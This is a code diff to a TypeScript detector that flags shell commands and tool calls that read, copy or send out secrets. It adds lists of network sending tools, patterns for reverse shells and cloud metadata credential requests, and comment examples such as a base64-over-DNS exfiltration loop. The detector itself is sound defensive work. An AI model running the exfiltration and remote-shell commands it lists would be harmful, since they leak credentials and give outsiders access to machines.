@@ -21,7 +21,7 @@ const READERS = set(
 const SENDERS = set(
   "curl wget http https xh httpie nc ncat netcat socat telnet ssh scp sftp ftp lftp rsync mail mailx mutt sendmail swaks msmtp nslookup dig host drill ping " +
     "aws gsutil gcloud az rclone s3cmd s5cmd mc gh glab pastebinit ix termbin croc wormhole magic-wormhole transfer slack twilio kcat invoke-webrequest invoke-restmethod iwr irm " +
-    "tftp rcp ncftpput openssl huggingface-cli wandb dx nats mosquitto_pub redis-cli",
+    "tftp rcp ncftpput logger lpr lp mosquitto_pub kafka-console-producer ntfy gotify apprise telegram-send slackcat aria2c ipfs transfer.sh gofile filebin onionshare-cli ffsend kubectl oc openssl huggingface-cli wandb dx nats mosquitto_pub redis-cli",
 );
 /** Of those, what they do with words that names no sending. */
 const SENDING: Readonly<Record<string, RegExp>> = {
@@ -31,7 +31,18 @@ const SENDING: Readonly<Record<string, RegExp>> = {
   gh: /^(?:gist|issue|pr|release|api|secret|repo)/,
   glab: /^(?:snippet|issue|mr|api|variable)/,
   openssl: /^s_client/,
+  kubectl: /^cp /,
+  oc: /^(?:cp|rsync) /,
 };
+/** Those that do it only with an option. */
+const SENDING_OPTION: Readonly<Record<string, RegExp>> = {
+  logger: /^(?:-n|--server(?:=.*)?)$/,
+  lpr: /^(?:-H|-P)/,
+  lp: /^-[hd]/,
+};
+/** Programs that show a folder to whoever asks. */
+const SERVERS =
+  /^(?:http\.server|serve|http-server|live-server|ngrok|localtunnel|lt|cloudflared|miniserve|caddy|ran|dufs|simplehttpserver|webfsd|darkhttpd|rclone|samba|tailscale)$/;
 /** Options whose value is used to prove who one is, or to set up a program, and not sent. */
 const USES =
   /^(?:-i|-E|-K|-o|--(?:key|cert|cacert|identity|netrc-file|env-file|envfile|kubeconfig|config|exclude|exclude-from|key-file|private-key|ssh-key|keyfile|credentials-file|defaults-file|ca|env|passphrase-file|recipient-file|ignore))$/;
@@ -56,6 +67,7 @@ const PRINTS: readonly (readonly [RegExp, RegExp])[] = [
   [/^heroku$/, /^(?:config|auth:token)\b/],
   [/^doppler$/, /^secrets\b/],
   [/^(?:sops|age|gpg)$/, /^(?:-d|--decrypt|decrypt|--export-secret-keys)/],
+  [/^vercel$/, /^env pull\b/],
   [/^npm$/, /^(?:config get .*_authToken|token list)/],
 ];
 /** Programs that send requests to the addresses among their words. */
@@ -74,7 +86,17 @@ const KEYS: readonly (readonly [string, RegExp])[] = [
 
 /** Key files, credentials, tokens and the environment: reading them is reported, sending them elsewhere is stopped. */
 export const detectSecrets: Detector = (subject) => {
-  const sources = subject.invocations.map((invocation) => sourceOf(invocation, subject));
+  const finder = findersOf(subject);
+  const sources: (Source | undefined)[] = [];
+  // What is made of a secret is one: `cp .env /tmp/x`, `tar czf k.tgz ~/.ssh`.
+  const made = new Map<string, string>();
+  for (const invocation of subject.invocations) {
+    const source =
+      sourceOf(invocation, subject) ?? foundBy(invocation, finder) ?? remadeFrom(invocation, made);
+    sources.push(source);
+    if (source?.isFile || source?.reads)
+      for (const path of writtenBy(invocation)) made.set(path, source.what);
+  }
   const found: Finding[] = [];
   const first = sources.find((source) => source !== undefined);
   for (const [at, invocation] of subject.invocations.entries()) {
@@ -84,13 +106,126 @@ export const detectSecrets: Detector = (subject) => {
       ([name, words]) => name === invocation.name && invocation.args.some(({ text }) => words.test(text)),
     );
     if (key) found.push(stop(RULE, commandLine(invocation), "it destroys a key, or gives one access"));
+    else if (givesShell(invocation) || isCodeShell(codeOf(invocation)))
+      found.push(stop(RULE, commandLine(invocation), "it gives another machine a shell here"));
+    else if (isServed(invocation, source, subject))
+      found.push(stop(RULE, commandLine(invocation), "it shows keys or a whole home folder to whoever asks"));
     else if (sent !== undefined) found.push(stop(RULE, commandLine(invocation), sent));
     else if (source?.reads) found.push(report(RULE, commandLine(invocation), `it reads ${source.what}`));
     else if (invocation.args.some(({ text }) => text.length > 16 && holdsSecret(text)))
       found.push(report(RULE, commandLine(invocation, 30), "a password or a token stands in it"));
   }
-  return [...found, ...detectGit(subject), ...detectTool(subject)];
+  return [...found, ...detectAccess(subject), ...detectGit(subject), ...detectTool(subject)];
 };
+
+/** What a search finds by a name that secrets have: `find ~ -name '*.pem'`. */
+function findersOf({ invocations }: Subject): Source | undefined {
+  for (const { name, args } of invocations) {
+    if (!/^(?:g?find|fd|fdfind|locate|mdfind)$/.test(name)) continue;
+    const pattern = args.find(({ text }) => /[*?]/.test(text) && isSecretPath(text.replace(/[*?]+/g, "x")));
+    const start = args.find(({ text }) => isSecretPath(text));
+    const what = pattern ?? start;
+    if (what) return { what: what.text, reads: false, isFile: true };
+  }
+  return undefined;
+}
+
+function foundBy({ via, args }: Invocation, source: Source | undefined): Source | undefined {
+  if (source === undefined || !args.some(({ dynamic, text }) => dynamic || text.includes("{}")))
+    return undefined;
+  return via.some((one) => /^(?:g?find|fd|fdfind|xargs|parallel)$/.test(one)) ? source : undefined;
+}
+
+const COPIERS =
+  /^(?:cp|mv|ln|install|rsync|tar|gtar|bsdtar|zip|7z|7za|gpg|age|openssl|base64|gzip|bzip2|xz|zstd|dd|ditto|vercel)$/;
+
+/** The files that a command makes of what it reads. */
+function writtenBy({ name, args, redirections }: Invocation): string[] {
+  const words = args.map(({ text }) => text);
+  const written = [
+    ...redirections.map(({ target }) => target.text),
+    ...words.filter((_, at) => /^(?:-o|-out|--output)$/.test(words[at - 1] ?? "")),
+  ];
+  if (!COPIERS.test(name)) return written;
+  // An archive's name stands in front, a copy's at the end, another one's behind `-o`.
+  const archive = words.find((text) => /\.(?:tar|t[gbx]z|zip|7z|gz|bz2|xz|zst|gpg|age|enc|b64)$/.test(text));
+  return [...written, ...[archive, words.at(-1)].filter((text) => text !== undefined)];
+}
+
+function remadeFrom(
+  { name, args, input }: Invocation,
+  made: ReadonlyMap<string, string>,
+): Source | undefined {
+  if (made.size === 0) return undefined;
+  const words = [...args.map(({ text }) => text), ...(input?.type === "file" ? [input.path] : [])];
+  for (const word of words)
+    for (const part of [word, ...word.split(/[@=<:;,]/)]) {
+      const what = made.get(part);
+      if (what !== undefined) return { what, reads: READERS.has(name), isFile: true };
+    }
+  return undefined;
+}
+
+/** `python3 -m http.server -d ~/.aws`, `ngrok http file:///home/me` */
+function isServed(
+  { name, args, folder }: Invocation,
+  source: Source | undefined,
+  { whereabouts }: Subject,
+): boolean {
+  const words = args.map(({ text }) => text);
+  const module = /^python[\d.]*$/.test(name) ? (words[words.indexOf("-m") + 1] ?? "").toLowerCase() : name;
+  if (!SERVERS.test(module) || (module === "rclone" && words[0] !== "serve")) return false;
+  const { homeFolder } = whereabouts.context;
+  const isHome = (text: string) => {
+    if (text === "/" || text === "file:///") return true;
+    const path = text
+      .replace(/^file:\/\//, "")
+      .replace(/^.*=/, "")
+      .replace(/\/$/, "");
+    return (
+      path === "~" ||
+      path === "$HOME" ||
+      path === homeFolder ||
+      /^(?:\/home\/[\w.-]+|\/Users\/[\w.-]+|\/root|\/)$/.test(path || "x")
+    );
+  };
+  return (
+    words.some((text) => isSecretPath(text) || isHome(text)) ||
+    source?.isFile === true ||
+    (folder !== undefined && folder !== "." && (isSecretPath(folder) || isHome(folder)))
+  );
+}
+
+/** Whose key is added there may log in. */
+function detectAccess({ changes }: Subject): Finding[] {
+  const added = changes.find(({ path, kind }) => kind === "write" && /(?:^|\/)authorized_keys2?$/.test(path));
+  return added ? [stop(RULE, added.by ?? added.path, "it lets whoever has a key log in here")] : [];
+}
+
+/** Where clouds give a machine its credentials. */
+const METADATA =
+  /(?:169\.254\.169\.254|169\.254\.170\.2|100\.100\.100\.200|metadata\.google\.internal|\[fd00:ec2::254\]).{0,200}(?:credential|token|identity)/i;
+const SHELLS = /^(?:bash|sh|zsh|dash|ksh|fish|ash)$/;
+
+/** `bash -i >& /dev/tcp/…`, `nc -e /bin/sh …`: somebody else's terminal here. */
+function givesShell({ name, args, redirections }: Invocation): boolean {
+  const words = args.map(({ text }) => text);
+  if (SHELLS.test(name)) return redirections.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text));
+  if (/^(?:nc|ncat|netcat)$/.test(name))
+    return words.some((word) => /^(?:-[a-zA-Z]*[ec]|--exec|--sh-exec|--lua-exec)$/.test(word));
+  if (name === "socat")
+    return (
+      words.some((word) => /^(?:exec|system):/i.test(word)) &&
+      words.some((word) => /^(?:tcp|openssl|udp|ssl)/i.test(word))
+    );
+  return false;
+}
+
+function isCodeShell(code: string | undefined): boolean {
+  return code !== undefined && CODE_SHELL.test(code) && /\bsocket\b|\bnet\b|IO::Socket|TCPSocket/i.test(code);
+}
+
+const CODE_SHELL = /\bdup2\s*\(|\bpty\.spawn|\bspawn\s*\(\s*["'](?:\/bin\/)?(?:ba)?sh["']/;
 
 interface Source {
   what: string;
@@ -106,6 +241,10 @@ function sourceOf(invocation: Invocation, subject: Subject): Source | undefined 
   if (isEnvironment(invocation))
     return { what: "every variable of the environment", reads: true, isFile: false };
   const line = words.join(" ");
+  if (name === "history" && words.every((word) => /^\d*$/.test(word)))
+    return { what: "the commands that were typed", reads: true, isFile: false };
+  if (WEB.test(name) && METADATA.test(line))
+    return { what: "the machine's own credentials", reads: true, isFile: false };
   if (PRINTS.some(([program, verbs]) => program.test(name) && verbs.test(line)))
     return { what: "a token or a secret", reads: true, isFile: false };
   const path =
@@ -169,8 +308,17 @@ function sentBy(
   const why = (source: Source) => `it sends ${source.what} to another machine`;
   const code = codeOf(invocation);
   const sends = code === undefined ? WEB.test(name) : CODE_SENDS.test(code);
-  const token = sends ? misplacedToken(code ?? args.map(({ text }) => text).join(" ")) : undefined;
+  const token = sends
+    ? misplacedToken(
+        [
+          code ?? args.map(({ text }) => text).join(" "),
+          ...(input?.type === "text" ? [input.text] : []),
+        ].join(" "),
+      )
+    : undefined;
   if (token) return `it sends ${token.variable} to ${token.host}, whose token it is not`;
+  if (/^(?:nc|ncat|netcat|socat)$/.test(name) && input?.type === "text" && SECRET_VARIABLE.test(input.text))
+    return "it sends what a variable holds that is called after a secret";
   if (own && code !== undefined && CODE_SENDS.test(code)) return why(own);
   if (own && redirections.some(({ target }) => /^\/dev\/(?:tcp|udp)\//.test(target.text))) return why(own);
   if (
@@ -184,19 +332,25 @@ function sentBy(
   if (!first) return undefined;
   const isFed = (input?.type === "pipe" || input?.type === "text") && readsInput(invocation);
   const request = requestOf(invocation);
-  const words = request
-    ? [
-        ...request.bodies,
-        ...args.filter(({ text }) => /^https?:/.test(text)),
-        ...(first.isFile ? request.headers : []),
-      ]
-    : args;
-  const isFilled = words.some(({ text, known, dynamic }) => dynamic || (!known && text.includes("$(")));
-  return isFed || isFilled ? why(first) : undefined;
+  // A token that a program prints often belongs into a header.
+  const words =
+    request && !first.isFile
+      ? [...request.bodies, ...args.filter(({ text }) => /^https?:/.test(text))]
+      : args;
+  const isFilled = words.some(({ text, known, dynamic }) => dynamic || (!known && text.includes("(…)")));
+  // `for l in $(base64 .env); do dig $l.example.com; done`: what asks for a name says it to whoever answers.
+  const isAsked = ASKS_NAMES.test(name) && args.some(({ text, known }) => !known && text.includes("$"));
+  return isFed || isFilled || isAsked ? why(first) : undefined;
 }
+
+const SECRET_VARIABLE =
+  /\$\{?[A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY|DATABASE_URL|_DSN)/;
+const ASKS_NAMES = /^(?:dig|nslookup|host|drill|ping|getent)$/;
 
 function isSending(name: string, args: readonly ShellWord[]): boolean {
   const verbs = SENDING[name];
+  const option = SENDING_OPTION[name];
+  if (option !== undefined) return args.some(({ text }) => option.test(text));
   return (
     verbs === undefined ||
     verbs.test(
@@ -256,7 +410,7 @@ function detectTool({ tool, input }: Subject): Finding[] {
   // What a command names is read from the command.
   if (isShellTool(tool)) return [];
   const texts = textsIn(input);
-  const secret = texts.find(({ text }) => holdsSecret(text));
+  const secret = texts.find(({ text }) => holdsSecret(text) || namesValue(text));
   const named = readToolInput(input).files.find(({ path }) => isSecretPath(path));
   if (!secret && !named) return [];
   if (isClientTool(tool)) {
@@ -272,7 +426,7 @@ function detectTool({ tool, input }: Subject): Finding[] {
   }
   const name = readToolName(tool);
   const isHere =
-    isAgentsOwn(name) ||
+    (isAgentsOwn(name) && !name.words.some((word) => word === "upload" || word === "fetch")) ||
     name.server.some((word) =>
       /^(?:filesystem|files?|fs|editor|ide|vscode|jetbrains|desktop|serena)$/.test(word),
     );
@@ -286,6 +440,20 @@ function detectTool({ tool, input }: Subject): Finding[] {
     return [stop(RULE, tool, "it sends a token or a password to a service")];
   if (named && !isHere && sends) return [stop(RULE, tool, `it sends ${named.path} to a service`)];
   return [report(RULE, tool, named ? `it names ${named.path}` : "a password or a token stands in it")];
+}
+
+/** `AWS_SECRET_ACCESS_KEY=wJalr…`: a variable that is called after a secret, and a value that looks like one. */
+const ASSIGNED =
+  /\b[A-Z][A-Z0-9_]{0,40}(?:SECRET|TOKEN|PASSWORD|PASSWD|API_?KEY|PRIVATE_KEY|ACCESS_KEY)[A-Z0-9_]{0,20}["']?\s{0,2}[=:]\s{0,2}["']?([A-Za-z0-9+/_.~-]{16,})/;
+
+function namesValue(text: string): boolean {
+  const value = text.length < 20_000 ? ASSIGNED.exec(text)?.[1] : undefined;
+  return (
+    value !== undefined &&
+    /[0-9]/.test(value) &&
+    /[A-Za-z]/.test(value) &&
+    !/^(?:your|example|changeme|x{4})/i.test(value)
+  );
 }
 
 /** The texts of an input, each with the field that it stands in, down to a bounded depth. */
